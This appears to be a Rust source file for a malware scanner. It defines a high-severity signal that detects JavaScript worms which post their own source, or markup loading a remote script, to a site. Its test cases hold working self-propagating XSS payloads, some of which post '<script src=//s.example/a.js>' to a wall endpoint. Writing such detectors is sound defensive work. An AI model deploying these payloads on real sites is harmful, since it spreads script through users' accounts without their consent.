//! `code-spread-by-posts`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "code-spread-by-posts",
    description: "The script posts its own source, or markup that loads a script, in a request that changes something on a site.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Post, Atom::PostMethod, Atom::Request])],
    within: 0,
    only_if: Some(spreads),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "(function(){var s='<script>('+arguments.callee.toString()+')()</script>';var x=new XMLHttpRequest();x.open('POST','/me/about');x.send('about='+encodeURIComponent(s))})()",
            r#"$.post('/wall/7',{text:'look '+'<script src="//s.example/a.js"></script>',token:t})"#,
            r#"fetch('/wall/7',{method:'POST',body:'token='+t+'&text='+encodeURIComponent('<script src=//s.example/a.js></script>')})"#,
        ],
        without: &[
            "var t='<script src=\"//cdn.example/a.js\"></script>';document.write(t);$.post('/log',{page:location.href})",
            "$.post('/wall/7',{text:box.value,token:t})",
            r#"var w='<script src="/a.js"></script>';document.write(w);"#,
            "var x=new XMLHttpRequest();x.open('POST','/log');x.send(document.currentScript.src)",
        ],
    },
};

/// Whether the script's own source or markup that loads a script is near a request that changes something.
fn spreads(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 130);
    if !near.has_fact(&[Atom::Post, Atom::PostMethod]) && !near.has(&["POST", "PUT"]) {
        return false;
    }
    let has_tag = || near.texts().any(|(_, text)| is_tag(&text));
    let reads = near.has_word(&["innerHTML", "outerHTML", "textContent", "text"]);
    let own = near.words(&["callee"]).any(|at| near.word(at + 1) == "toString")
        || reads && near.has_word(&["currentScript"]);
    if own && has_tag() || reads && names_itself(near) {
        return true;
    }
    // What is posted: the texts of the call or of its object, or a variable that is put together with others.
    let at = held.last as usize;
    let around = near.among(at.saturating_sub(70)..at + 70);
    around.texts().filter(|(_, text)| loads_script(text)).any(|(text, _)| {
        let part = near.is(text.wrapping_sub(1), b'+') || near.is(text + 1, b'+');
        let sent = text > at && near.is(text.wrapping_sub(1), b':');
        let name = near.is(text.wrapping_sub(1), b'=').then(|| near.before(text, 2));
        let joined = name.filter(|name| !name.is_empty()).is_some_and(|name| {
            around.places().any(|at| near.word(at) == name && near.is(at.wrapping_sub(1), b'+'))
        });
        text > at && part || sent || joined
    })
}

fn is_tag(text: &str) -> bool {
    ["<script", "onerror=", "onload=", "%3cscript", "onerror%3d"].iter().any(|tag| text.contains(tag))
}

/// A tag with an identifier that is looked up for its text: `'<script id="w">' + document.getElementById('w').innerHTML`.
fn names_itself(near: Near<'_>) -> bool {
    let ids: Vec<&str> = near
        .words(&["getElementById"])
        .filter(|at| near.is(at + 1, b'('))
        .map(|at| near.word(at + 2))
        .filter(|id| !id.is_empty())
        .collect();
    !ids.is_empty()
        && near.texts().any(|(_, text)| {
            text.contains("<script")
                && text.contains("id=")
                && ids.iter().any(|id| text.contains(&id.to_ascii_lowercase()))
        })
}

/// Markup that loads a script from another host: `<script src="//host…">`, `<img onerror=import(…)>`.
fn loads_script(text: &str) -> bool {
    let tag = text.find("<script").is_some_and(|at| {
        let tag = &text[at..];
        tag.find("src=").is_some_and(|src| tag[src..].contains("//"))
    });
    let handler = text.contains("onerror=") || text.contains("onload=");
    let loads = ["import(", "getscript", "createelement(", ".src="].iter().any(|word| text.contains(word));
    let coded =
        text.contains("onerror%3d") && (text.contains("createelement%28") || text.contains("import%28"));
    let coded_tag = text.find("%3cscript").is_some_and(|at| {
        let tag = &text[at..];
        tag.find("src%3d").is_some_and(|src| tag[src..].contains("%2f%2f"))
    });
    tag || handler && loads || coded || coded_tag
}
